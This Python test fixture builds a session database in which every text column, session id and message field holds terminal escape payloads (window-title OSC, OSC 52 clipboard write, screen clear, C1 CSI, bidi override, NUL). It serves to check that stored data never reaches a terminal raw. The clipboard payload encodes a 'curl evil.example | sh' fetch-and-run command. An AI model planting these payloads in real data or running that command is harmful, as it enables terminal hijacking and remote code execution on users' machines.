"""A store whose every text column holds terminal controls: the data of the check that
nothing stored reaches a terminal raw.

:func:`build_controls_store` writes, through the real write API (``SessionDB``) and, for the
columns that API never sets, raw SQL on the same file:

* :data:`PAYLOAD` -- OSC 0 (window title), OSC 52 (clipboard write), CSI ``2J`` (clear the
  screen), C1 CSI (U+009B), a bidi override (U+202E) and NUL -- in every TEXT column of
  ``sessions``, ``messages``, ``system_prompts`` and ``session_model_usage`` that exists in
  the layout, each value tagged with its column's name (``title:<payload>``) so a leak says
  where it came from;
* in session ids: every hostile session's id carries the payload after a short prefix
  (``ctl1``) that the CLI can be given (an argument cannot hold a NUL);
* in tool calls (name, id, arguments), reasoning, tool names and results, and roles.

Sessions (``SESSIONS``): ``ctl1`` an ordinary one (listed, pinned, renamed…); ``ctl2`` its
child (``parent_session_id`` carries the payload); ``ctl3`` ended long ago (``prune
--dry-run`` lists it); ``ctl4`` one to delete, list in the trash and restore;
``plain_ok_5`` an ordinary id with hostile content (the browser hands its id out), whose
first message has a NUL early (its preview) and another ``nulword<NUL> tailword quokka``
(a search snippet).
"""

from __future__ import annotations

import base64
import json
import re
import sqlite3
import time
from pathlib import Path
from typing import Any

from hermes_state import SessionDB

ESC, BEL = "\x1b", "\x07"
OSC_TITLE = f"{ESC}]0;pwned{BEL}"
OSC_CLIPBOARD = f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}{BEL}"
CSI_CLEAR = f"{ESC}[2J"
C1_CSI = "\x9b31m"
BIDI = "\u202e"
NUL = "\x00"
#: Every kind of payload the issue names, in one string.
PAYLOAD = OSC_TITLE + OSC_CLIPBOARD + CSI_CLEAR + C1_CSI + BIDI + "rev" + NUL + "after-nul"

#: A raw control on the way out: every C0 but newline and tab, DEL, C1, bidi controls.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def hostile(tag: str) -> str:
    return f"{tag}:{PAYLOAD}"


def session_id(prefix: str) -> str:
    return prefix + PAYLOAD + "id"


S1, S2, S3, S4 = (session_id(f"ctl{n}") for n in range(1, 5))
S5 = "plain_ok_5"
SESSIONS = (S1, S2, S3, S4, S5)
#: Prefixes the CLI is given (unique).
PREFIX = {S1: "ctl1", S2: "ctl2", S3: "ctl3", S4: "ctl4", S5: S5}

#: Columns set by the API or that must keep their meaning (raw SQL leaves them alone).
_STRUCTURAL = {
    "sessions": {"id", "parent_session_id", "system_prompt_hash", "model_config", "origin_json", "tool_names"},
    "messages": {"session_id", "tool_calls", "display_kind", "reasoning_details", "codex_reasoning_items",
                 "codex_message_items", "role"},
}


def _text_columns(conn: sqlite3.Connection, table: str) -> list[str]:
    return [row[1] for row in conn.execute(f"PRAGMA table_info({table})") if (row[2] or "").upper() == "TEXT"]


def _tables(conn: sqlite3.Connection) -> set[str]:
    return {row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}


def _tool_call(tag: str) -> dict[str, Any]:
    return {
        "id": hostile(f"{tag}.call_id"),
        "type": "function",
        "function": {"name": hostile(f"{tag}.tool_name"),
                     "arguments": json.dumps({"cmd": hostile(f"{tag}.arguments")}, ensure_ascii=False)},
    }


def build_controls_store(path: Path, schema: int = 30, now: float | None = None) -> dict[str, Any]:
    """Write the store at ``path`` (upstream's v30 layout, or this project's v16); return
    what was written: ``{"sessions": SESSIONS, "now": now}``."""
    now = time.time() if now is None else now
    if schema == 30:
        from hermes_workload.schema_v30 import create_v30_store

        create_v30_store(path)
    db = SessionDB(path)
    try:
        for n, sid in enumerate(SESSIONS, 1):
            started = now - 3600 * n if sid != S3 else now - 200 * 86400
            parent = S1 if sid == S2 else None
            db.create_session(
                sid, hostile("source"), model=hostile("model"), system_prompt=hostile("system_prompt"),
                user_id=hostile("user_id"), parent_session_id=parent,
                model_config={"note": hostile("model_config")},
            )
            # Raw SQL for every other text column of the session row, before its messages
            # (v30's trigram view reads the session's source when a message is indexed).
            _fill_session(db, sid, started)
            # S5's preview and a search find a NUL early in the text: neither may stop there.
            early = "early\x00nul " if sid == S5 else ""
            db.append_message(sid, "user", early + hostile(f"{n}.user_content"))
            db.append_message(
                sid, "assistant", hostile(f"{n}.assistant_content"), tool_calls=[_tool_call(str(n))],
                reasoning=hostile(f"{n}.reasoning"), reasoning_content=hostile(f"{n}.reasoning_content"),
                reasoning_details=[{"text": hostile(f"{n}.reasoning_details")}],
                codex_reasoning_items=[{"text": hostile(f"{n}.codex_reasoning_items")}],
                codex_message_items=[{"text": hostile(f"{n}.codex_message_items")}],
                finish_reason=hostile(f"{n}.finish_reason"),
                platform_message_id=hostile(f"{n}.platform_message_id"),
            )
            db.append_message(sid, "tool", hostile(f"{n}.tool_result"), tool_name=hostile(f"{n}.tool_name"),
                              tool_call_id=hostile(f"{n}.call_id"))
            db.append_message(sid, hostile(f"{n}.role"), hostile(f"{n}.odd_role_content"))
            db.append_message(sid, "assistant", "searchable marker word zebra " + hostile(f"{n}.answer"))
            if sid == S5:
                db.append_message(sid, "user", "nulword\x00 tailword quokka")
            db.set_session_title(sid, hostile(f"{n}.api_title"))  # TI-1 strips what it strips
            if sid in (S3, S4, S5):
                db.end_session(sid, hostile("end_reason"))
            _fill_messages(db, sid)
            # Times: the session started ``started``, its messages after it, in order.
            db._execute_write(lambda c, sid=sid, started=started: (
                c.execute("UPDATE messages SET timestamp = ? + id * 0.001 WHERE session_id = ?", (started, sid)),
                c.execute("UPDATE sessions SET started_at = ?, ended_at = CASE WHEN ended_at IS NULL THEN NULL "
                          "ELSE ? END WHERE id = ?", (started, started + 60, sid)),
            ))
        # The raw title: what TI-1 would have stripped (NUL, ESC) is kept by another writer.
        db._execute_write(lambda c: [
            c.execute("UPDATE sessions SET title = ? WHERE id = ?", (hostile(f"title{n}"), sid))
            for n, sid in enumerate(SESSIONS, 1)
        ])
    finally:
        db.close()
    return {"sessions": SESSIONS, "now": now}


def _fill_session(db: SessionDB, sid: str, started: float) -> None:
    def write(conn: sqlite3.Connection) -> None:
        tables = _tables(conn)
        sets, values = [], []
        for column in _text_columns(conn, "sessions"):
            if column in _STRUCTURAL["sessions"] or column in ("source", "model", "system_prompt", "user_id"):
                continue
            sets.append(f'"{column}" = ?')
            values.append(hostile(column))
        for column, value in (("origin_json", json.dumps({"chat": hostile("origin_json")})),
                              ("tool_names", json.dumps([hostile("tool_names")]))):
            if column in _text_columns(conn, "sessions"):
                sets.append(f'"{column}" = ?')
                values.append(value)
        conn.execute(f"UPDATE sessions SET {', '.join(sets)} WHERE id = ?", (*values, sid))
        if "system_prompts" in tables:
            digest = hostile(f"prompt_hash.{sid[:4]}")
            conn.execute("INSERT OR IGNORE INTO system_prompts (hash, prompt) VALUES (?, ?)",
                         (digest, hostile("system_prompts.prompt")))
            conn.execute("UPDATE sessions SET system_prompt_hash = ?, system_prompt = NULL WHERE id = ?",
                         (digest, sid))
        if "session_model_usage" in tables:
            names = _text_columns(conn, "session_model_usage")
            row = {name: hostile(f"usage.{name}") for name in names if name != "session_id"}
            row.update(session_id=sid, first_seen=started, last_seen=started + 30)
            quoted = ", ".join(f'"{name}"' for name in row)
            conn.execute(f"INSERT INTO session_model_usage ({quoted}) VALUES ({', '.join('?' for _ in row)})",
                         list(row.values()))

    db._execute_write(write)


def _fill_messages(db: SessionDB, sid: str) -> None:
    def write(conn: sqlite3.Connection) -> None:
        for column in _text_columns(conn, "messages"):
            if column in _STRUCTURAL["messages"]:
                continue
            conn.execute(f'UPDATE messages SET "{column}" = ? WHERE session_id = ? AND "{column}" IS NULL',
                         (hostile(f"messages.{column}"), sid))

    db._execute_write(write)


def raw_controls(text: str) -> list[str]:
    """The raw controls in ``text``, each with a little context (empty: none)."""
    return [repr(text[max(0, m.start() - 30):m.end() + 10]) for m in RAW_CONTROL.finditer(text)]
